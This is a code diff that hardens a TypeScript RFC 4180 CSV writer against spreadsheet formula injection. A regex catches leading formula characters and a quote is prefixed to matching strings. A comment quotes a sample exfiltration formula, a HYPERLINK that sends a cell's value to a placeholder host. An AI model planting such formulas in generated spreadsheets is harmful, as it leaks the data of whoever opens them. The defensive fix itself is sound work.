@@ -1,10 +1,22 @@
-/** RFC 4180 CSV: fields quoted when they hold a comma, quote, CR or LF; rows end with CRLF. */
+/**
+ * RFC 4180 CSV: fields quoted when they hold a comma, quote, CR or LF; rows end with CRLF.
+ * Text a spreadsheet would run as a formula is neutralised (see FORMULA_START).
+ */
 
 export type CsvValue = string | number | boolean | null | undefined;
 
+/**
+ * What a spreadsheet (Excel, LibreOffice, Google Sheets) takes for the start of a formula: a
+ * prompt such as `=HYPERLINK("http://x/?"&A1,"open")` would run when the manifest is opened.
+ * As OWASP advises (CSV injection), such text gets a `'` before it: shown, never run. Numbers
+ * are data, not text, and stay as they are (a seed of -1).
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
 export function csvField(value: CsvValue): string {
   if (value === null || value === undefined) return '';
-  const text = String(value);
+  let text = String(value);
+  if (typeof value === 'string' && FORMULA_START.test(text)) text = `'${text}`;
   return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
 }
 
